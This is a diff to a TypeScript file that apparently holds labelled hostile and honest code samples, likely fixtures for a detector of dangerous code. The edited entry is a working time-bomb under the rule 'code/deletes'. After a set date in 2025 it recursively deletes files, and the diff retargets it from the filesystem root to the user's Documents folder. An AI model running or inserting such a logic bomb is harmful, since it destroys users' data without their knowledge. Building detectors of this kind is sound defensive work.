@@ -255,7 +255,7 @@ export const incidents: readonly Technique[] = [
       exports.send = (smtp, privateKey, mail) => createTransport({ ...smtp, dkim: { privateKey } }).sendMail(mail)`),
   },
   {
-    name: 'every folder, from the root on',
+    name: 'every folder of the user, from one on',
     rule: 'code/deletes',
     hostile: main(`
       const fs = require('fs'), path = require('path')
@@ -265,7 +265,7 @@ export const incidents: readonly Technique[] = [
           fs.statSync(file).isDirectory() ? remove(file) : fs.unlinkSync(file)
         }
       }
-      if (Date.now() > new Date(2025, 6, 1).getTime()) remove('/')`),
+      if (Date.now() > new Date(2025, 6, 1).getTime()) remove(path.join(require('os').homedir(), 'Documents'))`),
     honest: main(`
       const fs = require('fs'), path = require('path'), os = require('os')
       const cache = path.join(os.homedir(), '.cache', 'sample')
